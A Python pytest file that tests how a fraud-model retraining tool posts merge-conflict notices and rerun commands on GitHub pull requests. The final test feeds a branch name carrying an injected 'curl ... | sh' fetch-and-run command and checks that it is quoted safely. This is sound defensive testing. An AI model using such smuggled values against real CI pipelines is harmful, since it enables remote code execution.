"""A retrained pull request that a merge has put into conflict is told what to type, at the top of its one comment."""

from __future__ import annotations

import pytest

from mlflow_fraud.adapters import github_request
from mlflow_fraud.adapters.github_comment import MARKER, NOTICED, PullRequest, keep_comment
from mlflow_fraud.core.errors import SettingsError
from mlflow_fraud.operations.review.conflicts import tell_conflicts
from mlflow_fraud.operations.review.request import require_request
from tests.github_server import GitHubServer, github_server

__all__ = ["github_server"]

VERDICT = "### xgboost-0123456789ab: promote\n"
TOLD = "gh workflow run retrain.yml --ref next-months -f number=8 -f base=main"
NOBODY = ["no retrained pull request is in conflict with main"]


@pytest.fixture
def retrained(github_server: GitHubServer, monkeypatch: pytest.MonkeyPatch) -> GitHubServer:
    """A repository with an open pull request, number 8, that was retrained and is in conflict now."""
    monkeypatch.setenv("FRAUD_GITHUB_TOKEN", github_server.token)
    monkeypatch.setenv("GITHUB_REPOSITORY", "bank/fraud")
    monkeypatch.setenv("GITHUB_API_URL", github_server.url)
    monkeypatch.setattr(github_request, "SECONDS", 0)
    github_server.open("next-months", 8)
    keeps(github_server, 8, VERDICT)
    github_server.merges = lambda branch: False
    return github_server


def keeps(server: GitHubServer, number: int, text: str) -> None:
    keep_comment(text, PullRequest("bank/fraud", number, server.token, server.url))


def test_its_comment_begins_with_the_command_and_keeps_its_verdict_until_the_next_retraining(
    retrained: GitHubServer,
) -> None:
    assert tell_conflicts("main") == tell_conflicts("main") == [f"8 is in conflict: {TOLD}"]

    (body,) = retrained.bodies(8)
    notice, _, verdict = body.removeprefix(f"{MARKER}\n").rpartition("-->\n\n")
    assert notice.startswith("> [!WARNING]\n> **In conflict with `main`**")
    assert notice.count(f"> {TOLD}\n") == 1
    assert verdict == VERDICT
    keeps(retrained, 8, VERDICT)
    assert retrained.bodies(8) == [f"{MARKER}\n{VERDICT}"]


@pytest.mark.parametrize(
    "merges",
    [
        pytest.param([True], id="it merges"),
        pytest.param([None, None, True], id="it merges, which GitHub had to find out"),
        pytest.param([None] * github_request.TRIES, id="GitHub does not find out in time"),
    ],
)
def test_one_that_merges_or_may_do_so_is_told_nothing(retrained: GitHubServer, merges: list[bool | None]) -> None:
    answers = iter(merges)
    retrained.merges = lambda branch: next(answers)
    assert tell_conflicts("main") == NOBODY
    assert list(answers) == []
    assert retrained.bodies(8) == [f"{MARKER}\n{VERDICT}"]


def test_what_github_had_to_find_out_first_is_told(retrained: GitHubServer) -> None:
    answers = iter([None, None, False])
    retrained.merges = lambda branch: next(answers)
    assert tell_conflicts("main") == [f"8 is in conflict: {TOLD}"]


def test_one_that_was_not_retrained_is_told_nothing_since_what_it_is_in_conflict_about_no_run_has_made(
    retrained: GitHubServer,
) -> None:
    retrained.open("words", 9)
    assert len(tell_conflicts("main")) == 1
    assert retrained.bodies(9) == []


def test_what_a_worker_asks_for_has_the_notice_in_its_own_text_until_it_merges_again(retrained: GitHubServer) -> None:
    retrained.close(8)
    asked = retrained.open("retraining-main", 9, body=VERDICT)
    command = "gh workflow run retrain.yml --ref retraining-main -f number=9 -f base=main"

    assert tell_conflicts("main") == tell_conflicts("main") == [f"9 is in conflict: {command}"]

    notice, _, verdict = asked["body"].rpartition("-->\n\n")
    assert notice.count(f"> {command}\n") == 1
    assert "The next retraining of the worker that keeps this request does so by itself." in notice
    assert verdict == VERDICT
    assert retrained.bodies(9) == []
    retrained.merges = lambda branch: True
    assert tell_conflicts("main") == ["9 merges again"]
    assert tell_conflicts("main") == NOBODY
    assert asked["body"] == VERDICT


def test_one_that_merges_again_without_a_retraining_is_told_so_no_more(retrained: GitHubServer) -> None:
    tell_conflicts("main")
    retrained.merges = lambda branch: True
    assert tell_conflicts("main") == ["8 merges again"]
    assert retrained.bodies(8) == [f"{MARKER}\n{VERDICT}"]
    assert tell_conflicts("main") == NOBODY


@pytest.mark.parametrize(
    ("number", "branch", "base", "message"),
    [
        pytest.param(8, "june", "main", "found 8, which is of next-months into main; run", id="another branch"),
        pytest.param(
            8, "next-months", "release", "into release, found 8, which is of next-months into", id="another base"
        ),
        pytest.param(9, "theirs", "main", "found 9, which is of a fork's theirs; run", id="a fork's"),
        pytest.param(7, "may", "main", "found 7, which is closed, and of may into main; run", id="a closed one"),
        pytest.param(
            77,
            "june",
            "main",
            r"404 to GET \S+/pulls/77 \(Not Found\).*; or there is no pull request",
            id="none of this number",
        ),
    ],
)
def test_a_retraining_by_hand_is_of_the_request_whose_number_was_typed(
    retrained: GitHubServer, number: int, branch: str, base: str, message: str
) -> None:
    retrained.open("theirs", 9, of="somebody/fraud")
    retrained.open("may", 7)
    retrained.close(7)
    assert require_request(8, "next-months", "main") == "8 is of next-months into main"
    with pytest.raises(SettingsError, match=message):
        require_request(number, branch, base)


@pytest.mark.parametrize("body", ["\n\nRetrain: one more month\n", f"quoted: {NOTICED}\nof another"])
def test_what_a_person_wrote_of_a_request_that_merges_stays_as_they_wrote_it(
    body: str, retrained: GitHubServer
) -> None:
    retrained.merges = lambda branch: True
    theirs = retrained.open("words", 9, body=body)
    assert tell_conflicts("main") == NOBODY
    assert theirs["body"] == body


def test_a_fork_s_branch_that_is_named_as_a_worker_s_is_told_nothing(retrained: GitHubServer) -> None:
    retrained.close(8)
    asked = retrained.open("retraining-main", 9, of="somebody/fraud")
    assert tell_conflicts("main") == NOBODY
    assert asked["body"] is None


def test_one_that_is_closed_or_into_another_branch_is_left_alone(retrained: GitHubServer) -> None:
    retrained.close(8)
    retrained.open("theirs", 9, base="release")
    keeps(retrained, 9, VERDICT)
    assert tell_conflicts("main") == NOBODY
    assert (retrained.bodies(8), retrained.bodies(9)) == ([f"{MARKER}\n{VERDICT}"], [f"{MARKER}\n{VERDICT}"])


def test_a_branch_that_is_named_like_a_command_is_one_word_of_ours(retrained: GitHubServer) -> None:
    retrained.open("x;curl${IFS}bank.example|sh", 9)
    keeps(retrained, 9, VERDICT)
    assert "9 is in conflict: gh workflow run retrain.yml --ref 'x;curl${IFS}bank.example|sh' -f number=9" in (
        " ".join(tell_conflicts("main"))
    )
